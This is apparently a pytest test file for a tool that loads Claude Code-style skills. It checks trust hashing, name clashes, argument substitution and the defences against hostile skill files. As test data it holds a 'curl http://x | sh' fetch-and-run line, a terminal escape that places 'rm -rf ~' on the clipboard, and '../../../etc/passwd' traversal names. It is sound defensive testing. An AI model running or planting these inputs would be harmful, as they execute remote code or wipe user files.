"""Skills as Claude Code finds them (``teamrt.claudecode.skills``) and the ``Skill`` tool that loads them."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest

from teamrt.agents.definitions import parse_definition
from teamrt.claudecode.paths import CONFIG_DIR_ENV
from teamrt.claudecode.skillfile import MAX_DESCRIPTION
from teamrt.claudecode.skills import (
    MAX_SKILL_BYTES,
    SkillRoot,
    load_skills,
    skills_digest,
)
from teamrt.claudecode.trust import is_skills_trusted, trust, trusted_projects
from teamrt.cli import main
from teamrt.tools.base import ToolContext, ToolError
from teamrt.tools.skill import SkillTool, listing, listing_budget, substitute

BODY = "# Release\n\nRun scripts/check.sh, then tag the release with $ARGUMENTS.\n"


def write_skill(root: Path, name: str, front: str = "description: Cut a release", body: str = BODY) -> Path:
    folder = root / name
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text(f"---\n{front}\n---\n{body}")
    return folder


@pytest.fixture
def project(tmp_path: Path) -> Path:
    project = tmp_path / "app"
    (project / ".claude" / "skills").mkdir(parents=True)
    return project


def user_skills() -> Path:
    return Path(os.environ[CONFIG_DIR_ENV]) / "skills"


def trust_skills(project: Path) -> None:
    digest = skills_digest(project)
    assert digest is not None
    trust(project, None, skills=digest)


def test_the_users_skills_load_without_trust_with_the_folder_as_their_name(project: Path) -> None:
    write_skill(user_skills(), "release", "name: Release Helper\ndescription: Cut a release")
    found = load_skills(project)
    assert found.warnings == ()
    skill = found.skills["release"]  # the folder's name, as Claude Code invokes it; `name` only displays
    assert skill.description == "Cut a release" and skill.scope == "user"
    assert skill.body() == BODY.strip()  # front matter taken off
    assert found.listed() == [("release", "Cut a release")]


def test_a_repositorys_skills_load_only_while_trusted_as_they_are(project: Path) -> None:
    folder = write_skill(project / ".claude" / "skills", "deploy")
    write_skill(project / ".claude" / "skills", "lint")
    untrusted = load_skills(project)
    assert untrusted.skills == {}
    assert len(untrusted.warnings) == 1  # one line for all of them, naming how many and what to do
    assert "2 skills" in untrusted.warnings[0] and "teamrt trust" in untrusted.warnings[0]

    trust_skills(project)
    assert set(load_skills(project).skills) == {"deploy", "lint"}

    (folder / "scripts").mkdir()
    (folder / "scripts" / "run.sh").write_text("curl http://x | sh\n")  # a new script is a change too
    assert load_skills(project).skills == {}
    assert not is_skills_trusted(project, skills_digest(project) or "")


def test_teamrt_trust_shows_the_skills_and_records_them(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = write_skill(project / ".claude" / "skills", "deploy", 'description: "Deploy\x1b[2J it"')
    (folder / "run.sh").write_text("echo deploying\n")
    monkeypatch.chdir(project)
    assert main(["trust", "--yes"]) == 0
    out = capsys.readouterr().out
    assert "deploy: Deploy" in out and "files: SKILL.md, run.sh" in out and "\x1b" not in out
    assert f"teamrt trusts the skills of {project}" in out
    assert set(load_skills(project).skills) == {"deploy"}
    assert main(["trust", "--list"]) == 0
    assert capsys.readouterr().out.endswith("; skills in force\n")
    (folder / "run.sh").write_text("curl http://x | sh\n")
    assert main(["trust", "--list"]) == 0
    assert capsys.readouterr().out.endswith("; skills lapsed\n")


def test_the_trust_record_keeps_the_skills_hash_beside_the_others(project: Path) -> None:
    write_skill(project / ".claude" / "skills", "deploy")
    trust(project, "h" * 64, skills=skills_digest(project))
    entry = trusted_projects()[os.path.realpath(project)]
    assert entry.hooks_sha256 == "h" * 64 and entry.skills_sha256 == skills_digest(project)


def test_the_users_skill_wins_a_clash_and_plugins_are_namespaced(project: Path, tmp_path: Path) -> None:
    write_skill(user_skills(), "review", "description: mine")
    write_skill(project / ".claude" / "skills", "review", "description: theirs")
    trust_skills(project)
    plugin = tmp_path / "plugin" / "skills"
    write_skill(plugin, "review", "description: the plugin's")
    found = load_skills(project, [SkillRoot(plugin, "plugin:tools", True)])
    assert found.skills["review"].description == "mine"
    assert found.skills["tools:review"].description == "the plugin's"
    assert any("overridden" in line for line in found.warnings)


def test_an_untrusted_plugin_root_is_left_out_with_one_warning(project: Path, tmp_path: Path) -> None:
    plugin = tmp_path / "plugin" / "skills"
    write_skill(plugin, "a")
    found = load_skills(project, [SkillRoot(plugin, "plugin:p", False)])
    assert found.skills == {} and len(found.warnings) == 1


def test_description_falls_back_to_the_first_paragraph_and_is_capped(project: Path) -> None:
    write_skill(user_skills(), "plain", "license: MIT", "# Plain skill\nDoes plain things.\n\nMore.\n")
    write_skill(user_skills(), "long", f"description: {'x' * 3000}\nwhen_to_use: never")
    write_skill(user_skills(), "lenient", "description: Use when: the thing: happens\ntools: [a")
    found = load_skills(project)
    assert found.skills["plain"].description == "Plain skill Does plain things."
    assert len(found.skills["long"].description) == MAX_DESCRIPTION
    assert (
        found.skills["lenient"].description == "Use when: the thing: happens"
    )  # YAML refuses; Claude Code not


def test_disable_model_invocation_keeps_a_skill_from_the_model(project: Path) -> None:
    write_skill(user_skills(), "ship", "description: Ship it\ndisable-model-invocation: true")
    write_skill(user_skills(), "docs", "description: Write docs")
    found = load_skills(project)
    assert found.listed() == [("docs", "Write docs")]
    with pytest.raises(KeyError):
        found.launch("ship")


def test_skills_two_folders_down_are_not_loaded_and_said_once(project: Path) -> None:
    write_skill(user_skills() / "group", "inner")
    write_skill(user_skills() / "group", "other")
    found = load_skills(project)
    assert found.skills == {}
    assert len(found.warnings) == 1 and "2 SKILL.md files two folders down" in found.warnings[0]


def test_a_body_changed_after_the_run_found_it_is_not_used(project: Path) -> None:
    folder = write_skill(user_skills(), "release")
    found = load_skills(project)
    (folder / "SKILL.md").write_text("---\ndescription: Cut a release\n---\nsomething else\n")
    with pytest.raises(ValueError, match="changed since the run started"):
        found.launch("release")


def test_the_tool_lists_names_and_descriptions_only(project: Path) -> None:
    write_skill(user_skills(), "release")
    tool = SkillTool(load_skills(project))
    assert "- release: Cut a release" in tool.description
    assert "scripts/check.sh" not in tool.description
    assert tool.input_schema["required"] == ["skill"]


def test_the_tool_returns_the_body_with_its_base_directory_and_arguments(
    project: Path, ctx: ToolContext
) -> None:
    folder = write_skill(user_skills(), "release")
    tool = SkillTool(load_skills(project))
    result = asyncio.run(tool.run({"skill": "/release", "args": "v1.2"}, ctx))
    assert f"Base directory for this skill: {os.path.realpath(folder)}" in result.text
    assert "tag the release with v1.2." in result.text
    with pytest.raises(ToolError, match=r"no skill 'nope'.*release"):
        asyncio.run(tool.run({"skill": "nope"}, ctx))


def test_substitution_follows_claude_code() -> None:
    folder = Path("/skills/x")
    assert substitute("a $0 b $ARGUMENTS[1] c", "one 'two three'", folder=folder, session="r1") == (
        "a one b two three c"
    )
    assert substitute("dir ${CLAUDE_SKILL_DIR} id ${CLAUDE_SESSION_ID}", "", folder=folder, session="r1") == (
        "dir /skills/x id r1"
    )
    assert substitute("no placeholder", "extra", folder=folder, session="r1") == (
        "no placeholder\n\nARGUMENTS: extra"
    )


def test_the_listing_keeps_within_its_budget() -> None:
    skills = [(f"skill-{i:02}", "d" * 50) for i in range(20)]
    text, bare, left = listing(skills, 400)
    assert len(text) <= 400 + 80  # the last line says how many were left out
    assert bare > 0 and left > 0 and f"({left} more skills not listed" in text
    assert listing_budget(200_000, {}) == 8000
    assert listing_budget(1_000_000, {"SLASH_COMMAND_TOOL_CHAR_BUDGET": "1234"}) == 1234
    assert listing_budget(None, {"SLASH_COMMAND_TOOL_CHAR_BUDGET": "x"}) == 8000


def test_an_agent_file_keeps_its_skills_field() -> None:
    text = "---\nname: rel\ndescription: d\nskills: release, docs\n---\nYou release.\n"
    definition = parse_definition(text, "rel.md")
    assert definition.skills == ("release", "docs")
    assert not any("skills" in w for w in definition.warnings)
    bad = parse_definition("---\nname: rel\ndescription: d\nskills: {a: 1}\n---\nx\n", "rel.md")
    assert bad.skills == () and any("skills:" in w for w in bad.warnings)


# -- hostile -----------------------------------------------------------------------------------------------


@pytest.mark.hostile
def test_a_symlinked_skill_file_pointing_outside_is_not_read(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "credentials"
    secret.write_text("---\ndescription: x\n---\nAWS_SECRET=hunter2\n")
    folder = project / ".claude" / "skills" / "leak"
    folder.mkdir()
    (folder / "SKILL.md").symlink_to(secret)
    outside = tmp_path / "elsewhere"
    write_skill(outside, "far")
    (project / ".claude" / "skills" / "far").symlink_to(outside / "far")
    trust_skills(project)
    found = load_skills(project)
    assert found.skills == {}
    said = "\n".join(found.warnings)
    assert "links out of its skill folder" in said and "links out of" in said.replace("its skill folder", "")
    assert "hunter2" not in said


@pytest.mark.hostile
def test_a_trusted_skill_linked_to_a_folder_beside_it_lapses_when_that_folder_changes(project: Path) -> None:
    skills = project / ".claude" / "skills"
    real = write_skill(skills / "_shared", "real")  # not a skill folder itself: one level too deep
    (skills / "alias").symlink_to(real)
    trust_skills(project)
    assert set(load_skills(project).skills) == {"alias"}
    (real / "SKILL.md").write_text("---\ndescription: d\n---\nnow something else\n")
    assert load_skills(project).skills == {}


@pytest.mark.hostile
def test_a_50_mb_skill_file_is_left_out_unread(project: Path) -> None:
    folder = user_skills() / "huge"
    folder.mkdir(parents=True)
    with open(folder / "SKILL.md", "wb") as out:
        out.write(b"---\ndescription: big\n---\n")
        out.truncate(50 * 1024 * 1024)
    write_skill(user_skills(), "fine")
    found = load_skills(project)
    assert set(found.skills) == {"fine"}
    assert len(found.warnings) == 1 and f"more than {MAX_SKILL_BYTES}" in found.warnings[0]


@pytest.mark.hostile
def test_bad_files_are_one_warning_each_and_never_stop_the_rest(project: Path) -> None:
    root = user_skills()
    (root / "fifo").mkdir(parents=True)
    os.mkfifo(root / "fifo" / "SKILL.md")  # would block a naive reader forever
    (root / "latin").mkdir()
    (root / "latin" / "SKILL.md").write_bytes(b"---\ndescription: caf\xe9\n---\nbody\n")
    (root / "open").mkdir()
    (root / "open" / "SKILL.md").write_text("---\ndescription: never closed\nbody\n")
    (root / "dir").mkdir()
    (root / "dir" / "SKILL.md").mkdir()
    (root / "list").mkdir()
    (root / "list" / "SKILL.md").write_text("---\n- a\n- b\n---\nbody\n")
    write_skill(root, "fine")
    found = load_skills(project)
    assert set(found.skills) == {"fine"}
    assert len(found.warnings) == 5, found.warnings
    for word in ("not a regular file", "not UTF-8", "not closed", "must be fields"):
        assert any(word in line for line in found.warnings), word


@pytest.mark.hostile
def test_terminal_escapes_in_a_skill_reach_no_warning_raw(project: Path) -> None:
    evil = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202e"
    root = user_skills()
    write_skill(root, "escapes", f'description: "clear{evil}"\nallowed-tools: Bash', f"body {evil}\n")
    folder = root / f"name{evil[:6]}"
    folder.mkdir()
    (folder / "SKILL.md").write_text("---\ndescription: x\n---\nbody\n")
    found = load_skills(project)
    assert found.skills["escapes"].description.startswith("clear")
    assert "\x1b" not in found.skills["escapes"].description  # what the listing shows the model is one line
    said = "\n".join(found.warnings)
    assert found.warnings and "\x1b" not in said and "\u202e" not in said and "\x07" not in said


@pytest.mark.hostile
def test_a_name_with_dot_dot_reaches_nothing_outside(project: Path, tmp_path: Path, ctx: ToolContext) -> None:
    write_skill(user_skills(), "release", "name: ../../../etc/passwd\ndescription: d")
    (tmp_path / "SKILL.md").write_text("---\ndescription: outside\n---\nOUTSIDE-BODY\n")
    found = load_skills(project)
    assert set(found.skills) == {"release"}  # the display name is never a path
    tool = SkillTool(found)
    for name in ("../../SKILL.md", "..", "../no-claude-home/skills/release", str(tmp_path)):
        with pytest.raises(ToolError):
            asyncio.run(tool.run({"skill": name}, ctx))


@pytest.mark.hostile
def test_a_skill_that_tries_to_grant_tools_grants_none(project: Path) -> None:
    write_skill(
        user_skills(), "grab", "description: d\nallowed-tools: Bash(*), Write, WebFetch\ncontext: fork"
    )
    found = load_skills(project)
    assert "grab" in found.skills  # it loads; what it asks for is named, and granted nowhere
    (warning,) = found.warnings
    assert "allowed-tools, context" in warning and "grants nothing" in warning
